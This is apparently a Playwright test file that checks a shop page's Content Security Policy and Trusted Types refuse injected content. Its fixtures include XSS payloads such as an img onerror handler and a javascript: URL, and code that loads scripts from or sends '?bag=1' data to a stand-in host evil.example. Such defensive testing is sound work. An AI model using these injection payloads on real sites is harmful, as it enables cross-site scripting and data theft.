import { sampleCases } from './sample-cases.ts';
import { expect, test } from './test.ts';
import { openAndHydratePage } from './open-page.ts';

declare global {
  interface Window {
    /** Incremented by code that must not run. */
    ran?: number;
  }
}

/** The directive that refuses code from strings in browsers with Trusted Types. */
const TRUSTED_TYPES_DIRECTIVE = 'require-trusted-types-for';

/**
 * Ways in which injected code, styles or data could enter or leave a page, and the directive that refuses each: in a
 * browser with Trusted Types, and by the rest of the policy alone.
 */
const intrusions: readonly (readonly [
  what: string,
  refusedBy: string,
  withoutTypes: string,
  intrude: () => unknown,
])[] = [
  [
    'a script of another origin',
    TRUSTED_TYPES_DIRECTIVE,
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      document.head.append(script);
      script.src = 'https://evil.example/a.js';
    },
  ],
  [
    'a module of another origin',
    'script-src-elem',
    'script-src-elem',
    () =>
      document.head.append(
        Object.assign(document.createElement('link'), {
          rel: 'modulepreload',
          href: 'https://evil.example/a.js',
        }),
      ),
  ],
  [
    'markup',
    TRUSTED_TYPES_DIRECTIVE,
    'script-src-attr',
    () => (document.createElement('div').innerHTML = '<img src="data:," onerror="ran = 1">'),
  ],
  [
    'an event handler',
    TRUSTED_TYPES_DIRECTIVE,
    'script-src-attr',
    // It is evaluated when it is first called.
    () => {
      document.body.setAttribute('onclick', 'ran = 1');
      document.body.click();
    },
  ],
  // In a later task: code that a debugger runs may create code from strings.
  ['code made of text', TRUSTED_TYPES_DIRECTIVE, 'script-src', () => setTimeout(() => setTimeout('ran = 1'))],
  [
    'an address that is code',
    'script-src-elem',
    'script-src-elem',
    () => {
      location.href = 'javascript:ran = 1';
    },
  ],
  [
    'a worker',
    TRUSTED_TYPES_DIRECTIVE,
    'worker-src',
    () => new Worker(URL.createObjectURL(new Blob(['fetch("https://evil.example/")']))),
  ],
  [
    'a style attribute',
    'style-src-attr',
    'style-src-attr',
    () => document.body.setAttribute('style', 'display: none'),
  ],
  [
    'a style element',
    'style-src-elem',
    'style-src-elem',
    () =>
      document.head.append(
        Object.assign(document.createElement('style'), { textContent: 'a { color: red }' }),
      ),
  ],
  ['a picture that tells', 'img-src', 'img-src', () => (new Image().src = 'https://evil.example/?bag=1')],
  [
    'a request that tells',
    'connect-src',
    'connect-src',
    () => fetch('https://evil.example/?bag=1').catch(() => undefined),
  ],
  [
    'another base of all links',
    'base-uri',
    'base-uri',
    () =>
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
  ],
  [
    'a frame',
    'frame-src',
    'frame-src',
    () =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
  ],
  [
    'a plugin',
    TRUSTED_TYPES_DIRECTIVE,
    'object-src',
    () => {
      const plugin = document.createElement('object');
      document.body.append(plugin);
      plugin.data = 'https://evil.example/a';
    },
  ],
  [
    'a form that sends elsewhere',
    'form-action',
    'form-action',
    () => {
      const form = Object.assign(document.createElement('form'), {
        action: 'https://evil.example/',
        method: 'post',
      });
      document.body.append(form);
      form.submit();
    },
  ],
];

test.describe('where markup was injected into a page', () => {
  test.use({
    expectedComplaints: /Content Security Policy|Trusted(?:HTML|Script)|evil\.example|ERR_BLOCKED_BY_CSP/,
  });

  for (const [where, hasTypes] of sampleCases([
    ['', true],
    [' in a browser without Trusted Types', false],
  ] as const)) {
    test(`injected markup runs nothing, shows nothing and sends nothing${where}`, async ({ page }) => {
      if (!hasTypes)
        await page.route('**/product/lee-serum', async (route) => {
          const response = await route.fetch();
          const policy = response.headers()['content-security-policy'] ?? '';
          const without = policy.replace(/; require-trusted-types-for .*?; trusted-types [^;]*/, '');
          expect(without).not.toBe(policy);
          await route.fulfill({
            response,
            headers: { ...response.headers(), 'content-security-policy': without },
          });
        });
      await openAndHydratePage(page, '/product/lee-serum');
      // Ignored without a report, or reported where no listener runs.
      await page.evaluate(() => {
        const script = document.createElement('script');
        script.append('window.ran = 1');
        document.body.append(script);
        try {
          document.body.append(
            Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.ran = 1</script>' }),
          );
        } catch {
          // Trusted Types refuse a document of markup.
        }
      });
      for (const [what, byAll, byPolicy, intrude] of intrusions) {
        const refusal = page.evaluate(
          () =>
            new Promise<string>((resolve) => {
              document.addEventListener(
                'securitypolicyviolation',
                (event) => resolve(event.effectiveDirective),
                { once: true },
              );
              setTimeout(resolve, 5000, 'nothing');
            }),
        );
        // Some attempts throw.
        await page.evaluate(intrude).catch(() => undefined);
        const directive = await refusal;
        expect.soft(directive, what).toBe(hasTypes ? byAll : byPolicy);
      }
      expect(await page.evaluate(() => window.ran)).toBeUndefined();
    });
  }
});
